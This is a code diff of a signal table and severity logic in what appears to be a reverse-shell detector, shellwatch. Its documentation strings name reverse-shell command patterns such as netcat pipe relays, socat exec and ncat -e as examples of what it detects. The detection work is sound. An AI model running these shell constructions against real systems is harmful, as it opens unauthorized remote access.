@@ -1,8 +1,11 @@
-/* signals.c: the signal table (include/signals.h). Each row: the bit, the name alerts show, how
- * much it says alone, the predicate that decides it for one exec, and the line docs/run.md shows.
- * Rows are in the order alerts list them; the first row whose predicate names a remote end gives
- * the alert's remote end, so the most direct facts come first. */
+/* signals.c: the signal table (include/signals.h) and the severity that follows from it. Each row:
+ * the bit, the name alerts show, what kind of fact it is, the predicate that decides it for one
+ * exec, and the line docs/run.md shows. Rows are in the order alerts list them; the network rows
+ * come most direct first, and the first one that shows a side (stdin, stdout) gives that side's
+ * connection and the alert's remote end. */
 #include <string.h>
+#include <sys/socket.h>
+#include "cmdsrc.h"
 #include "interp.h"
 #include "judge_priv.h"
 
@@ -14,11 +17,34 @@ struct signal_def {
 	const char *doc;
 };
 
-static bool offer(struct verdict *v, const struct sw_fd *peer)
+static void offer(struct verdict *v, const struct sw_fd *peer)
 {
 	if (peer && !v->peer)
 		v->peer = peer;
-	return peer != NULL;
+}
+
+/* Side path of v gets (via, sock, flags of sock as holder sees it) unless a stronger row set it. */
+static bool show(struct verdict *v, struct net_path *path, uint32_t via, const struct proc *holder,
+		 const struct sw_fd *sock)
+{
+	if (!sock)
+		return false;
+	if (!path->via)
+		*path = (struct net_path){ via, sock, judge_sock_flags(v->j, holder, sock) };
+	offer(v, sock);
+	return true;
+}
+
+/* A kind of stdio another process can relay: a terminal, a pipe, a fifo, a socketpair. */
+static bool relayable(const struct sw_fd *f)
+{
+	return f->kind == SW_FD_TTY || f->kind == SW_FD_PIPE || f->kind == SW_FD_FIFO ||
+	       (f->kind == SW_FD_SOCK && !sw_fd_is_inet(f)) || f->kind == SW_FD_UNKNOWN;
+}
+
+static bool relayable_out(const struct proc *p)
+{
+	return relayable(&p->stdio[1]) || relayable(&p->stdio[2]);
 }
 
 static bool rule(struct verdict *v)
@@ -28,27 +54,61 @@ static bool rule(struct verdict *v)
 
 static bool stdio_socket(struct verdict *v)
 {
-	return offer(v, judge_inet_stdio(v->p->stdio));
+	const struct sw_fd *f = v->p->stdio;
+	const struct sw_fd *out = sw_fd_is_inet(&f[1]) ? &f[1] : sw_fd_is_inet(&f[2]) ? &f[2] : NULL;
+	bool in = show(v, &v->in, SIG_STDIO_SOCKET, v->p, sw_fd_is_inet(&f[0]) ? &f[0] : NULL);
+
+	return show(v, &v->out, SIG_STDIO_SOCKET, v->p, out) || in;
 }
 
+/* The parent (or grandparent) talks to the network on its own stdio and p's stdio is a terminal
+ * or pipe it can be relaying: python's pty.spawn. */
 static bool parent_socket(struct verdict *v)
 {
-	const struct proc *pp = v->pp, *gp = judge_parent(v->j, pp);
-	const struct sw_fd *s = pp ? judge_inet_stdio(pp->stdio) : NULL;
+	const struct proc *h = v->pp, *gp = judge_parent(v->j, v->pp);
+	const struct sw_fd *s = h ? judge_inet_stdio(h->stdio) : NULL;
+	bool in, out;
 
-	return offer(v, s ? s : gp ? judge_inet_stdio(gp->stdio) : NULL);
+	if (!s && gp && (s = judge_inet_stdio(gp->stdio)))
+		h = gp;
+	if (!s)
+		return false;
+	in = relayable(&v->p->stdio[0]) && show(v, &v->in, SIG_PARENT_SOCKET, h, s);
+	out = relayable_out(v->p) && show(v, &v->out, SIG_PARENT_SOCKET, h, s);
+	return in || out;
 }
 
 static bool pipe_relay(struct verdict *v)
 {
-	const struct proc *relay = relay_of(v->j, v->p);
+	const struct proc *i = relay_in(v->j, v->p), *o = relay_out(v->j, v->p);
+	bool in = i && show(v, &v->in, SIG_PIPE_RELAY, i, &judge_last_sock(i)->sock);
+	bool out = o && show(v, &v->out, SIG_PIPE_RELAY, o, &judge_last_sock(o)->sock);
 
-	return offer(v, relay ? judge_last_sock(relay) : NULL);
+	return in && out;
 }
 
+/* The parent holds a connection it made or accepted, off its stdio, and p's stdio is a pipe or
+ * terminal it can be relaying: socat exec, ncat -e, node's spawn, a login under sshd. */
 static bool holds_socket(struct verdict *v)
 {
-	return judge_is_shell(v->p) && offer(v, judge_last_sock(v->pp));
+	const struct proc_sock *s = judge_last_sock(v->pp);
+	bool in, out;
+
+	if (!s)
+		return false;
+	in = relayable(&v->p->stdio[0]) && show(v, &v->in, SIG_HOLDS_SOCKET, v->pp, &s->sock);
+	out = relayable_out(v->p) && show(v, &v->out, SIG_HOLDS_SOCKET, v->pp, &s->sock);
+	return in && out;
+}
+
+static bool interpreter(struct verdict *v)
+{
+	return v->p->interp != INTERP_NONE;
+}
+
+static bool cmd_stdin(struct verdict *v)
+{
+	return v->p->cmdsrc == CMDSRC_STDIN;
 }
 
 static bool score(struct verdict *v)
@@ -62,45 +122,36 @@ static bool parent_score(struct verdict *v)
 }
 
 static const struct signal_def table[] = {
-	{ SIG_RULE, "rule", SIG_CONFIRMS, rule,
+	{ SIG_RULE, "rule", SIG_PATTERN, rule,
 	  "a rule (docs/rules.md; built-in: bind and reverse shell) matched the process stream; a "
 	  "child starts with its parent's recent events, so a connect in `python` and the exec of "
 	  "`sh` in its child are one episode" },
-	{ SIG_STDIO_SOCKET, "stdio-socket", SIG_CONFIRMS, stdio_socket,
-	  "an inet/inet6 socket is on fd 0, 1 or 2 of the new program (live: read from the task's fd "
-	  "table at the exec, whatever put it there: dup2, dup3, fcntl, io_uring, close+socket)" },
-	{ SIG_PARENT_SOCKET, "parent-stdio-socket", SIG_CONFIRMS, parent_socket,
-	  "the parent or grandparent has an inet socket on its stdio (at its exec, or moved there by a "
-	  "dup onto 0-2): `python pty.spawn`, where the shell gets a terminal and the parent relays" },
-	{ SIG_PIPE_RELAY, "pipe-relay", SIG_CONFIRMS, pipe_relay,
-	  "a shell whose stdin is fed, and whose stdout or stderr is read, through pipes or fifos, by "
-	  "processes holding inet connections, directly or through one filter: `sh -i < f | nc H P > "
-	  "f`, `nc H P | sh | nc H P2`, openssl relays, whatever the programs are called" },
-	{ SIG_HOLDS_SOCKET, "parent-holds-socket", SIG_SUPPORTS, holds_socket,
-	  "a shell whose parent holds an inet connection it made or accepted (socat, ncat -e): "
-	  "confirms only with a score signal (alone it is every ssh login)" },
+	{ SIG_STDIO_SOCKET, "stdio-socket", SIG_NETWORK, stdio_socket,
+	  "an inet/inet6 socket is on fd 0 (stdin side) or fd 1/2 (output side) of the new program "
+	  "(live: read from the task's fd table at the exec, whatever put it there: dup2, dup3, "
+	  "fcntl, io_uring, close+socket)" },
+	{ SIG_PARENT_SOCKET, "parent-stdio-socket", SIG_NETWORK, parent_socket,
+	  "the parent or grandparent has an inet socket on its stdio and the new program's stdio is "
+	  "a terminal or pipe it can relay: `python pty.spawn`" },
+	{ SIG_PIPE_RELAY, "pipe-relay", SIG_NETWORK, pipe_relay,
+	  "stdin is fed, and stdout or stderr read, through pipes or fifos by processes holding inet "
+	  "connections, directly or through one filter: `sh -i < f | nc H P > f`, `nc H P | sh | nc "
+	  "H P2`, openssl relays, whatever the programs are called" },
+	{ SIG_HOLDS_SOCKET, "parent-holds-socket", SIG_NETWORK, holds_socket,
+	  "the parent holds an inet connection it made or accepted, and the new program's stdin and "
+	  "stdout are pipes or a terminal it can relay: socat exec, ncat -e, node's spawn" },
+	{ SIG_INTERPRETER, "interpreter", SIG_IDENTITY, interpreter,
+	  "the program is a command interpreter: a shell or python, perl, ruby, php, node, lua, tcl, "
+	  "awk, by its inode or ELF build-id (a renamed copy is still one), else by name" },
+	{ SIG_CMD_STDIN, "commands-from-stdin", SIG_IDENTITY, cmd_stdin,
+	  "it takes its commands from stdin (no script operand, -i, -s, `-`), by its own argument "
+	  "rules: a script file or a -c string with a connection on stdin reads data, not commands" },
 	{ SIG_SCORE, "score", SIG_SUSPECTS, score,
 	  "the command line scores at or above the threshold (docs/scoring.md)" },
 	{ SIG_PARENT_SCORE, "parent-score", SIG_SUSPECTS, parent_score,
 	  "the parent's or grandparent's command line did" },
 };
 #define NSIG (sizeof(table) / sizeof(table[0]))
-
-static uint32_t mask_of(enum sig_strength s)
-{
-	uint32_t m = 0;
-
-	for (size_t i = 0; i < NSIG; i++)
-		if (table[i].strength == s)
-			m |= table[i].bit;
-	return m;
-}
-
-bool alert_confirmed(uint32_t sig)
-{
-	return (sig & mask_of(SIG_CONFIRMS)) ||
-	       ((sig & mask_of(SIG_SUPPORTS)) && (sig & mask_of(SIG_SUSPECTS)));
-}
 
 uint32_t signals_score(const struct judge *j, double s, double ps)
 {
@@ -118,6 +169,40 @@ uint32_t signals_judge(struct verdict *v)
 		if (table[i].fires(v))
 			sig |= table[i].bit;
 	return sig;
+}
+
+static bool live(const struct net_path *p)
+{
+	return p->via && !(p->flags & PSOCK_SANCTIONED);
+}
+
+enum direction signals_direction(const struct verdict *v)
+{
+	uint32_t f = (v->in.via ? v->in.flags : 0) | (v->out.via ? v->out.flags : 0);
+
+	return f & PSOCK_OUTBOUND ? DIR_OUTBOUND : f & PSOCK_INBOUND ? DIR_INBOUND : DIR_UNKNOWN;
+}
+
+/* high: an interpreter taking its commands from stdin, with stdin and output both reaching a
+ * connection no sanctioned server holds (or a rule's episode ending in it); medium: a program on
+ * an outbound connection as its own stdin and stdout (an unknown binary, or an interpreter
+ * running its own code), or a reverse-shell rule on a non-interpreter; low: the score alone. */
+enum severity signals_severity(const struct verdict *v, uint32_t sig)
+{
+	bool cmds = (sig & SIG_INTERPRETER) && (sig & SIG_CMD_STDIN);
+	bool sanctioned = (v->in.flags | v->out.flags) & PSOCK_SANCTIONED;
+	bool direct = v->in.via == SIG_STDIO_SOCKET && v->out.via == SIG_STDIO_SOCKET;
+	bool outbound = signals_direction(v) == DIR_OUTBOUND;
+
+	if (cmds && live(&v->in) && live(&v->out))
+		return SEV_HIGH;
+	if (cmds && (sig & SIG_RULE) && !sanctioned)
+		return SEV_HIGH;
+	if (direct && live(&v->in) && live(&v->out) && outbound)
+		return SEV_MEDIUM;
+	if ((sig & SIG_RULE) && !v->rule_inbound && !sanctioned && signals_direction(v) != DIR_INBOUND)
+		return SEV_MEDIUM;
+	return sig & SIG_SCORE ? SEV_LOW : SEV_NONE;
 }
 
 const char *signal_name(uint32_t bit)
@@ -157,15 +242,14 @@ void signals_str(uint32_t signals, char *buf, size_t len)
 	signals_each(signals, append_name, &b);
 }
 
-/* For docs/run.md and `shellwatch run --help-signals`: one line per row. */
 void signals_doc(FILE *f)
 {
-	static const char *const strength[] = { "confirms", "suspects", "supports" };
+	static const char *const kind[] = { "network", "identity", "suspects", "pattern" };
 
 	for (size_t i = 0; i < NSIG; i++) {
 		fprintf(f, "| `%s` | ", table[i].name);
 		for (const char *c = table[i].doc; *c; c++)
 			fprintf(f, *c == '|' ? "\\|" : "%c", *c);   /* a cell of a markdown table */
-		fprintf(f, " | %s |\n", strength[table[i].strength]);
+		fprintf(f, " | %s |\n", kind[table[i].strength]);
 	}
 }
